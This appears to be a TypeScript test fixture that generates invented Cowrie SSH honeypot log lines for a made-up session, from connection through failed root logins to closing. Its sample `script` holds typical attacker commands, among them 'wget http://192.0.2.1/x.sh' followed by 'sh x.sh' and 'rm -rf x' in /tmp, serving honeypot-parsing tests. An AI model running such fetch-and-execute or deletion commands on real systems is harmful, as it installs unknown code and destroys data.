/** Cowrie's events of a made-up session, a line each, from connect to close; `start` in seconds. */
export const sessionLines = (
  session: string,
  start: number,
  {
    commands,
    passwords,
  }: {
    readonly commands: ReadonlyArray<string>
    readonly passwords: ReadonlyArray<string>
  },
): ReadonlyArray<string> => {
  let at = Date.UTC(2026, 2, 1) + start * 1000
  const event = (eventid: string, said: object = {}) => {
    at += 700
    return `${JSON.stringify({
      eventid,
      ...said,
      ...{
        timestamp: new Date(at).toISOString().replace("Z", "000Z"),
        src_ip: "192.0.2.5",
        session,
      },
    })}\n`
  }
  return [
    event("cowrie.session.connect", { protocol: "ssh" }),
    event("cowrie.client.version", { version: "SSH-2.0-Invented" }),
    event("cowrie.client.kex", {
      ...{ kexAlgs: ["curve-made", "curve-up"], keyAlgs: ["key-made"], encCS: ["cipher-made"] },
      ...{ macCS: ["mac-made"], compCS: ["none"] },
    }),
    ...passwords.map((password) => event("cowrie.login.failed", { username: "root", password })),
    ...commands.map((input) => event("cowrie.command.input", { input })),
    event("cowrie.session.closed"),
  ]
}

export const script = {
  commands: ["cd /tmp; rm -rf x", "uname -a", "wget http://192.0.2.1/x.sh", "sh x.sh", "exit"],
  passwords: ["heron-lake", "plum-orchard", "tin-whistle", "copper-kettle", "oak-barrel"],
}
